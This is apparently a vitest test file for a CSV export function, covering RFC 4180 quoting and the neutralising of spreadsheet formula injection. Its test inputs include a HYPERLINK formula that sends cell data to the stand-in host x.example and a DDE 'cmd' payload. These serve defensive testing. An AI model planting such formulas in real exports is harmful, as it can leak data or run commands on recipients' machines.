import { describe, expect, it } from 'vitest';
import { toCsv } from '../src/core/data/csv.ts';

const lines = (csv: string) => csv.split('\r\n').slice(0, -1);

describe('CSV downloads', () => {
  it('writes RFC 4180: a header, CRLF rows, quotes only where needed', () => {
    const csv = toCsv(['name', 'v', 'note'], [
      { name: 'H100, SXM', v: 1.5, note: 'says "fast"' },
      { name: 'B200', v: null, note: 'two\nlines' },
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines(csv)).toEqual(['name,v,note', '"H100, SXM",1.5,"says ""fast"""', 'B200,,"two\nlines"']);
  });

  it('neutralises text that a spreadsheet would run as a formula: =, +, -, @, tab, carriage return', () => {
    const evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
    const csv = toCsv(['cell'], evil.map((cell) => ({ cell })));
    expect(lines(csv).slice(1, 5)).toEqual([`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, `'+1+cmd|' /C calc'!A0`, `'-2+3`, `'@SUM(A1:A2)`]);
    // A tab needs no quoting in RFC 4180; a carriage return does.
    expect(csv).toContain(`\r\n'\t=1+1\r\n`);
    expect(csv).toContain(`\r\n"'\r=1+1"\r\n`);
    // No cell of the file starts with a formula character any more.
    for (const line of lines(csv).slice(1, 5)) expect(line.replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves numbers, booleans and ordinary text alone, negative numbers included', () => {
    const csv = toCsv(['n', 'm', 'ok', 'text', 'mid', 'list'], [{ n: -5, m: -0.25, ok: true, text: 'H100', mid: 'a=b', list: [-1, 2] }]);
    expect(lines(csv)[1]).toBe('-5,-0.25,true,H100,a=b,"[-1,2]"');
  });

  it('neutralises column names too (they come from SQL aliases)', () => {
    expect(lines(toCsv(['=cmd', 'ok'], []))[0]).toBe(`'=cmd,ok`);
  });
});
